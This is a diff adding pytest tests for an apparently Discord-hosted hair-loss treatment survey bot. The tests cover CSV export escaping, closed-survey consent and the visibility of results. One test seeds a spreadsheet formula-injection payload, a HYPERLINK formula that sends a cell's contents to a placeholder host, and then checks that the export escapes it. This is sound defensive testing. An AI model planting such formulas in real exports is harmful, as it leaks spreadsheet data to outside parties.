@@ -341,3 +341,51 @@ async def test_import_replies_from_the_seed_thread(
     assert "Massive itching" in originals[0][0]
     # imported replies stay out of results until the server includes them
     assert count(settings, "SELECT count(*) FROM responses WHERE imported = 0") == 0
+
+
+async def test_exports_are_spreadsheet_safe_and_survive_dropped_choices(
+    double: DiscordDouble, bot: AnagenBot
+) -> None:
+    answers = {
+        ("notes", ""): Answer(text='=HYPERLINK("http://x/?"&A2,"see")'),
+        ("effects.shedding", "retired_choice"): Answer(choices=("better",)),
+    }
+    await seed_response(bot.db, double.guild.id, 77, answers)
+    files = await bot.get_cog("Survey").results.export(double.guild.id, "csv")  # type: ignore[union-attr]
+    row = next(csv.DictReader(io.StringIO(files[0].content.decode())))
+    assert row["notes"].startswith("'=HYPERLINK")
+
+
+async def test_consent_after_the_survey_closed_creates_nothing(
+    double: DiscordDouble, bot: AnagenBot, member: User, settings: Settings
+) -> None:
+    await double.slash(member, "survey start")
+    consent = await double.wait_for_dm(member, 1)
+    moderator = double.add_member("mod", admin=True)
+    await double.slash(moderator, "survey-admin settings", survey_open=False)
+    clicked = await double.click(member, consent, "Start the survey")
+    assert "closed to new responses" in clicked.message.text
+    assert count(settings, "SELECT count(*) FROM responses") == 0
+
+
+async def test_treatment_reports_follow_results_visibility(
+    double: DiscordDouble, bot: AnagenBot, member: User
+) -> None:
+    from tests.survey_driver import treatment_answers
+
+    for index in range(6):
+        await seed_response(
+            bot.db,
+            double.guild.id,
+            9000 + index,
+            treatment_answers("finasteride", "better", "better"),
+        )
+    moderator = double.add_member("mod", admin=True)
+    await double.slash(moderator, "survey-admin settings", visibility="managers")
+    shown = await double.slash(member, "treatment lookup", name="fin")
+    names = [f["name"] for f in shown.message.embeds[0]["fields"]]
+    assert "Community reports" not in names
+    own = await double.slash(moderator, "treatment lookup", name="fin")
+    assert "Community reports" in [f["name"] for f in own.message.embeds[0]["fields"]]
+    private = await double.slash(moderator, "survey results")
+    assert (await private.wait_followup()).ephemeral
